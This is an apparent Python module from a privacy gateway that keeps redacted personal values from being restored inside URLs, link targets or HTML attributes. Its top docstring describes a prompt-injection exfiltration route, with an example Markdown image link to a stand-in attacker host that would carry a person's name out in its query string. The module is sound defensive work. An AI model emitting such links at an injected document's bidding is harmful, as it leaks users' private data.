"""Places where no value may be put back: addresses, link targets, attributes of HTML elements.

An injected document can make a model write ``![](https://evil.example/?q=[PERSON1])``; if the gateway put the name
in, the reader's browser would carry it out of the house. So restoration asks `Place.is_unsafe`, and redaction asks
`areas`: whatever is found inside such a place travels as *one* value with the whole address or tag, which stands
alone again when it comes back. Both sides use the same rules on this page, or the round trip would break. Attributes
that nobody follows (`gateway.redaction.elements`) are like text.

The rules are those of the readers, not of good style: in Markdown an address ends at white space (ASCII only) and may
hold quotes and brackets; between ``<`` and ``>`` it may hold spaces; its colon and slashes may be escaped or written
as entities; in HTML a tag ends at a ``>`` outside quotes. A quote ends an address only where the same quote stood
directly before it. In doubt a place is unsafe: then the reader sees a placeholder.

Known weakness: a program (``<script>``, JavaScript in a code block that the client runs) can build an address out of
parts; no text can be told from it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import NamedTuple

import regex

from gateway.redaction.elements import followed
from gateway.redaction.nesting import PIECE, Nesting, unescaped

_SPACE = re.compile(r"[\x00-\x20\x7f]")
_SCHEMES = ("http", "https", "ftp", "ftps", "ws", "wss", "file", "blob", "data", "javascript", "vbscript", "mailto")
_MARK = re.compile(
    rf":(?:{'|'.join(f'(?<={scheme}:)' for scheme in _SCHEMES)}|(?<=[a-z0-9+.\-]{{2}}:)[/\\])|//|\.(?<=www\.)|\]\("
    r"|\\[:/]|&(?:colon|b?sol|#0*(?:\d\d?|1[01]\d|12[0-7])|#x0*[0-7]?[\da-f]);", re.IGNORECASE)
"""From the end of a mark on, what follows is part of an address. No mark is the beginning of another one, so that the
first mark of a text is also the first mark of every longer one."""
_HINTS = ("//", ":/", ":\\", "](", "www.", "\\:", "\\/", "&colon;", "&sol;", "&bsol;", "&#",
          *(scheme + ":" for scheme in _SCHEMES))
_SCHEME_LETTERS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")
_CLOSING = {'"': '"', "'": "'", "`": "`", "„": "“”", "“": "”", "»": "«", "«": "»", "<": ">"}

_NAME = r"[^\t\n\f\r />][^\t\n\f\r />=]*+"
_VALUE = r"""(?:"[^"]*+(?:"|\Z)|'[^']*+(?:'|\Z)|[^\t\n\f\r "'>][^\t\n\f\r >]*+)"""
_GAP = r"(?:(?!\n\n)[\t\n\f\r ])"
_TAG = regex.compile(rf"<[a-z][\w:.\-]*+(?=[\t\n\f\r /])(?:{_GAP}|/|{_NAME}(?:{_GAP}*+={_GAP}*+{_VALUE}?+)?+)*+",
                     regex.IGNORECASE)
"""A start tag up to its end, as an HTML tokenizer reads it; in Markdown a blank line ends it as well."""
_ANGLE = regex.compile(r"\][(:][\t\n ]*+<(?:\\[^\n]|[^<>\n\\])*+(?:\\\Z)?+")
"""A link target between angle brackets, the closing one not included."""
_OPENING = re.compile(r"<(?=[a-z])|\][(:][\t\n ]*<", re.IGNORECASE)
_BEGINNING = re.compile(r"(?:<[a-z]?[\w:.\-]{0,40}|\](?:[(:][\t\n ]{0,40})?)\Z", re.IGNORECASE)
"""What may still become one of the two."""
_NESTED = 16
_LIMIT, _NAMES = 4096, 256


class Area(NamedTuple):
    """A stretch of text that is one address or tag: what stands at ``inside`` to ``end`` must not be replaced alone."""

    start: int
    inside: int
    end: int
    is_open: bool
    """It reaches the end of the text and would go on in a longer one."""


def areas(text: str) -> list[Area]:
    """Return every address and tag of `text`, sorted by where their inside begins."""
    return [] if is_harmless(text) else sorted((*_addresses(text), *_tags(text)), key=lambda area: area.inside)


def is_harmless(text: str) -> bool:
    """Say quickly that `text` has no address and no tag at all."""
    if "<" in text:
        return False
    low = text.lower()
    return not any(hint in low for hint in _HINTS)


def _addresses(text: str) -> Iterator[Area]:
    at = 0
    while mark := _MARK.search(text, at):
        start = mark.start()
        space = _SPACE.search(text, mark.end())
        end = space.start() if space else len(text)
        closing = ""
        if mark[0] != "](":
            while start > at and text[start - 1] in _SCHEME_LETTERS:
                start -= 1
            closing = _CLOSING.get(text[start - 1], "") if start > at else ""
        closed = next((i for i in range(mark.end(), end) if text[i] in closing), -1) if closing else -1
        if not closing:
            while start > at and not _SPACE.match(text, start - 1):
                start -= 1
        yield Area(start, mark.end(), end if closed < 0 else closed, closed < 0 and end == len(text))
        at = end if closed < 0 else closed + 1


def _tags(text: str) -> Iterator[Area]:
    """Yield tags and bracketed link targets, also those that begin inside another: who knows which one is read."""
    at = 0
    while found := _OPENING.search(text, at):
        area = _tag(text, found.start())
        at = found.end() if area is None else max(found.end(), area.end)
        if area is None:
            continue
        yield area
        inner = found.end()
        for _ in range(_NESTED):
            nested = _OPENING.search(text, inner, area.end)
            if nested is None:
                break
            inner = nested.end()
            if (within := _tag(text, nested.start())) is not None:
                yield within
        else:
            yield Area(area.start, area.inside if area.inside <= area.end else area.start, len(text), True)


def _tag(text: str, start: int) -> Area | None:
    bracketed = text[start] == "]"
    match = (_ANGLE if bracketed else _TAG).match(text, start)
    if match is None:
        return None
    end = match.end()
    inside = text.find("<", start, end) + 1 if bracketed else _followed(text, start, end)
    if inside < 0:  # no such attribute yet: only an open tag matters, when it goes on
        return Area(start, len(text) + 1, end, end == len(text))
    if text.startswith("\n\n", end):
        end += 1  # nobody who sees only the first of the two line feeds knows that the tag has ended
    return Area(start, inside, end, match.end() == len(text))


def _followed(text: str, start: int, end: int) -> int:
    """Return where in a tag begins what may not be put back alone, or -1. A tag that is too long to be kept in sight
    is taken for one of HTML, so that it does not matter how much of it is seen."""
    first = text.find("=", start, end)
    if first < 0 or end - start > _LIMIT or first - start > _NAMES:
        return first + 1 or -1
    inside = followed(text[start:end])
    return inside if inside < 0 else start + inside


class Place:
    """Where the answer stands: fed with what was shown, asked only where a placeholder is about to be replaced.

    With ``json_string`` what was shown is the source text of JSON; each of its strings is a text of its own, and one
    that begins with an address is an address to its end, spaces or not: tools take it as it is.
    """

    def __init__(self, *, json_string: bool = False) -> None:
        self._nesting = Nesting() if json_string else None
        self._shown: list[str] = []
        self._forget()

    def _forget(self) -> None:
        self._run = self._tail = self._head = ""
        self._overlong = self._endless = False
        """An address, a tag began so far back that it is out of sight."""

    def shown(self, text: str) -> None:
        """Take note of `text`, which the reader sees next."""
        self._shown.append(text)

    @property
    def depth(self) -> int:
        """How often a value must be escaped here, once `is_unsafe` was asked."""
        return max(1, self._nesting.depth) if self._nesting else 0

    def is_unsafe(self) -> bool:
        """Say whether a value inserted here would become part of an address, a link target or an attribute."""
        text = "".join(self._shown)
        self._shown.clear()
        if self._nesting:
            self._nesting.feed(text)
            text = self._string(text)
            self._head += text[:_LIMIT - len(self._head)]
            if any(not self._head[:area.start].strip() for area in _addresses(self._head)):
                return True
        return self._in_address(text) | self._in_tag(text)

    def _string(self, source: str) -> str:
        """Return what `source` adds to the JSON string it ends in, unescaped; at each quote begins another text."""
        parts: list[str] = []
        for piece in PIECE.finditer(source):
            if piece[0] == '"':
                parts.clear()
                self._forget()
            else:
                parts.append(unescaped(piece))
        return "".join(parts)

    def _in_address(self, text: str) -> bool:
        late = text[max(text.rfind(" "), text.rfind("\n"), 0):]
        *before, run = _SPACE.split(late)
        if before:
            self._run, self._overlong = run, False
        else:
            self._run += run
        is_open = self._overlong or any(area.is_open for area in _addresses(self._run))
        if len(self._run) > _LIMIT:  # nobody may push the beginning of an address out of our sight
            self._overlong, self._run = is_open, self._run[-_LIMIT:]
        return is_open

    def _in_tag(self, text: str) -> bool:
        if self._endless:
            return True
        seen = self._tail + text
        found = [area for area in _tags(seen) if area.is_open]
        unfinished = _BEGINNING.search(seen, max(0, len(seen) - 100))
        starts = [area.start for area in found] + ([unfinished.start()] if unfinished else [])
        self._tail = seen[min(starts):] if starts else ""
        if "=" not in self._tail and self._tail[:1] == "<" and len(self._tail) > _NAMES:
            self._tail = "<a " + self._tail[-_NAMES:]  # no attribute yet, perhaps no tag at all
        self._endless = len(self._tail) > _LIMIT  # no tag is so long; nobody may make us read it again and again
        return any(area.inside <= len(seen) for area in found)
